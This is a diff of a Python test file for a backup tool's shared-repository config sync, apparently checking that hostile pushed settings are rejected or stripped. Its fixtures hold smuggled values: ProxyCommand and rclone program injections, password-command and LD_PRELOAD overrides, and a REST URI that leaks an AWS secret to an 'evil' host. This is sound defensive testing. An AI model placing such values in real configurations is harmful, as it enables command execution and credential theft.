@@ -20,12 +20,21 @@ def config() -> wire.config.Config:
 
 
 def push(here: wire.config.Config, grants: list[str], message: SetConfig) -> Report:
-    peer = wire.config.Multihost.Peer(instance_id="hub", keyid="k", permissions=[parse_grant(g) for g in grants])
+    peer = wire.config.Multihost.Peer(
+        instance_id="hub", keyid="k", permissions=[parse_grant(g) for g in grants]
+    )
     return apply_set_config(here, peer, message)
 
 
 def shared(**fields: object) -> SetConfig:
-    values = {"id": "nas", "uri": "/srv/nas", "guid": B, "password": "p", "origin_instance_id": "hub", **fields}
+    values = {
+        "id": "nas",
+        "uri": "/srv/nas",
+        "guid": B,
+        "password": "p",
+        "origin_instance_id": "hub",
+        **fields,
+    }
     return SetConfig(repos=[Repo(**values)])  # type: ignore[arg-type]
 
 
@@ -64,10 +73,13 @@ def test_a_later_push_changes_the_repo_that_came_from_the_same_hub() -> None:
         (["receive-shared-repos"], {"guid": ""}, "no guid"),
         (["read-write-config=repo:nas"], {"guid": A}, "same guid"),
         (["receive-shared-repos"], {"uri": "rclone::sftp,ssh=evil:/x"}, "run a program"),
+        (["receive-shared-repos"], {"uri": "rest:https://evil/${AWS_SECRET_ACCESS_KEY}"}, "environment"),
         (["receive-shared-repos"], {"uri": "sftp:-oProxyCommand=evil:/x"}, "run a program"),
     ],
 )
-def test_what_is_not_allowed_is_skipped_with_a_reason(grants: list[str], fields: dict[str, str], reason: str) -> None:
+def test_what_is_not_allowed_is_skipped_with_a_reason(
+    grants: list[str], fields: dict[str, str], reason: str
+) -> None:
     here = config()
     report = push(here, grants, shared(**fields))
     assert not report.changed
@@ -99,8 +111,14 @@ def test_write_permission_on_a_local_repo_changes_it_and_it_stays_local() -> Non
 
 def test_what_would_run_programs_is_stripped_from_a_shared_repo() -> None:
     message = shared(
-        env=["AWS_KEY=1", "RESTIC_PASSWORD_COMMAND=evil", "LD_PRELOAD=/x"],
-        flags=["--no-cache", "-o sftp.command=evil", "--option=rclone.program=evil", "--password-command evil"],
+        env=["AWS_KEY=1", "RESTIC_PASSWORD_COMMAND=evil", "LD_PRELOAD=/x", "A=${HOME}"],
+        flags=[
+            "--no-cache",
+            "--header ${SECRET}",
+            "-o sftp.command=evil",
+            "--option=rclone.program=evil",
+            "--password-command evil",
+        ],
     )
     message.repos[0].hooks.add().action_command.command = "evil"
     message.repos[0].command_prefix.io_nice = wire.config.CommandPrefix.IO_IDLE
